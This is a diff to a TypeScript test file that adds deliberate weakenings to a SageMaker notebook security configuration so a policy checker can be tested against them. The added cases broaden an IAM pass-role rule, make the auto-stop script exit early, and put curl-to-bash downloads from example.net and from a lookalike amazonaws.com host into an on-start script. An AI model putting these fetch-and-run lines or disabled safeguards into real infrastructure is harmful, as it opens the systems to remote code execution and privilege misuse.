@@ -7,6 +7,7 @@ import {
   byName,
   bySid,
   describeMutations,
+  editHook,
   set,
   statements,
   type Mutation,
@@ -23,6 +24,7 @@ const everyKeyOf = (arn: unknown) => String(arn).replace(/key\/.*$/, 'key/*');
 const idOf = (env: Env, name: string) => String(byName(env, name).id);
 const NETWORK = 'secure-ml-network';
 const NOTEBOOK = 'secure-ml-notebook';
+const PASSED_TO_THREE = ['sagemaker.amazonaws.com', 'ec2.amazonaws.com', 'lambda.amazonaws.com'];
 const selectors = (env: Env) => byName(env, 'trail').inputs['advancedEventSelectors'] as Raw[];
 const dataBucketOf = (env: Env) => String(byName(env, 'data-public-access').inputs['bucket']);
 const vpcCidrOf = (env: Env) => String(byName(env, 'network-vpc').inputs['cidrBlock']);
@@ -359,11 +361,94 @@ const REVIEW: Mutation[] = [
     set('data-logging', { targetBucket: undefined }),
     'data (Bucket)',
   ],
+  [
+    ['IAM-5'],
+    '[34] the guardrail lets the notebook role be passed to SageMaker, EC2 and Lambda',
+    statements(
+      'notebook-guardrail',
+      bySid('PassNotebookRoleToSageMaker', (s) => ({
+        ...s,
+        Condition: { StringEquals: { 'iam:PassedToService': PASSED_TO_THREE } },
+      })),
+    ),
+    'notebook-guardrail (Policy)',
+  ],
+  [
+    ['IAM-5'],
+    "[34] the guardrail's deny of passing the notebook role elsewhere exempts EC2 and Lambda",
+    statements(
+      'notebook-guardrail',
+      bySid('DenyPassingNotebookRoleElsewhere', (s) => ({
+        ...s,
+        Condition: { StringNotEquals: { 'iam:PassedToService': PASSED_TO_THREE } },
+      })),
+    ),
+    'notebook-guardrail (Policy)',
+  ],
+  [
+    ['NB-8'],
+    '[21] the auto-stop script exits before it ever stops the instance',
+    editHook('auto-stop.sh', (text) =>
+      text.includes('stop-notebook-instance')
+        ? text.replace(/^set -euo pipefail$/m, 'set -euo pipefail\nexit 0')
+        : text,
+    ),
+    'lifecycle (NotebookInstanceLifecycleConfiguration)',
+  ],
+  [
+    ['NB-8'],
+    '[22] the on-start script pipes a download from example.net into bash',
+    editHook('on-start.sh', (text) =>
+      text.replace(
+        /^log "on-start complete"$/m,
+        'curl -fsSL example.net/setup.sh | bash\nlog "on-start complete"',
+      ),
+    ),
+    'lifecycle (NotebookInstanceLifecycleConfiguration)',
+  ],
+  [
+    ['NB-8'],
+    '[22] the on-start script downloads from a host that only contains amazonaws.com',
+    editHook('on-start.sh', (text) =>
+      text.replace(
+        /^log "on-start complete"$/m,
+        'curl -fsSL https://s3.amazonaws.com.example.net/setup.sh | bash\nlog "on-start complete"',
+      ),
+    ),
+    'lifecycle (NotebookInstanceLifecycleConfiguration)',
+  ],
+  [
+    ['NB-8'],
+    '[23] the auto-stop scheduled only behind a variable nobody sets',
+    editHook('on-start.sh', (text) =>
+      text.replace(/^(schedule auto-stop .*)$/m, 'if [[ -n "${SECURE_ML_NEVER_SET:-}" ]]; then\n  $1\nfi'),
+    ),
+    'lifecycle (NotebookInstanceLifecycleConfiguration)',
+  ],
+  [
+    ['NB-8'],
+    '[32] pip3.10 installs from PyPI',
+    editHook('on-start.sh', (text) =>
+      text.replace(/^log "on-start complete"$/m, 'pip3.10 install --quiet xgboost\nlog "on-start complete"'),
+    ),
+    'lifecycle (NotebookInstanceLifecycleConfiguration)',
+  ],
+  [
+    ['NB-8'],
+    '[32] conda updates the environment from the default channels',
+    editHook('on-start.sh', (text) =>
+      text.replace(
+        /^log "on-start complete"$/m,
+        'conda env update --name base --file environment.yml\nlog "on-start complete"',
+      ),
+    ),
+    'lifecycle (NotebookInstanceLifecycleConfiguration)',
+  ],
 ];
 
 describe('the review table', () => {
   it('has every weakening the review found, by number', () => {
-    expect(REVIEW).toHaveLength(27);
+    expect(REVIEW).toHaveLength(35);
   });
 });
 
